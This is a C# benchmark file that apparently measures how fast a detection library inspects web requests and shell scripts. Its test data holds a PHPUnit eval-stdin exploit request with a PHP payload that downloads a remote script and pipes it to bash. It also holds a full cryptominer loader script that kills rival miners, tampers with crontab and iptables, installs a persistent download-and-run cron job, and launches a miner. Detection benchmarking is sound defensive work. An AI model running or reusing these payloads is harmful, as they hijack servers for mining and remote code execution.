using System.Text;
using Assay.Detection;
using BenchmarkDotNet.Attributes;

namespace Assay.Benchmarks;

/// <summary>
/// The detection hot path: <see cref="ExploitDetector.Inspect"/> on an ordinary browser request (the common case, expected
/// 0 allocated: the SearchValues pre-check rejects it) and on the lab exploit request; the script analyzer on a loader script.
/// </summary>
[MemoryDiagnoser]
public class DetectionBenchmarks
{
    private readonly byte[] _uri = "/static/js/app.min.js?v=3.2.1&lang=en-US&q=%2Fhome%2Fuser"u8.ToArray();
    private readonly byte[] _ua = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36"u8.ToArray();
    private readonly byte[] _body = "name=alice&comment=hello+world%21"u8.ToArray();
    private readonly byte[] _exploitUri = "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php"u8.ToArray();
    private readonly byte[] _exploitBody = "<?php system('wget -q -O - http://10.77.0.5:8080/ldr.sh | bash'); ?>"u8.ToArray();
    private readonly KeyValuePair<string, string>[] _headers = [new("Host", "example.com"), new("Accept", "text/html"), new("Cookie", "session=abc")];
    private readonly List<ExploitMatch> _matches = [];
    private readonly byte[] _script = Encoding.ASCII.GetBytes(
        "#!/bin/bash\nfor n in xmrig kinsing kdevtmpfsi; do pkill -9 -f $n; done\nchattr -ia /etc/crontab\niptables -A INPUT -p tcp --dport 80 -j DROP\n"
        + "(crontab -l; echo \"*/30 * * * * curl -fsSL http://1.2.3.4/ldr.sh | sh\") | crontab -\nwget -q -O /tmp/x http://1.2.3.4/x\nchmod +x /tmp/x\nnohup /tmp/x -o stratum+tcp://pool:3333 --donate-level=1 &\n");

    [Benchmark(Baseline = true)]
    public int OrdinaryRequest()
    {
        _matches.Clear();
        return ExploitDetector.Inspect("GET"u8, _uri, _ua, _headers, _body, _matches);
    }

    [Benchmark]
    public int ExploitRequest()
    {
        _matches.Clear();
        return ExploitDetector.Inspect("POST"u8, _exploitUri, _ua, _headers, _exploitBody, _matches);
    }

    [Benchmark]
    public int LoaderScript() => ScriptAnalyzer.Analyze(_script).Count;
}
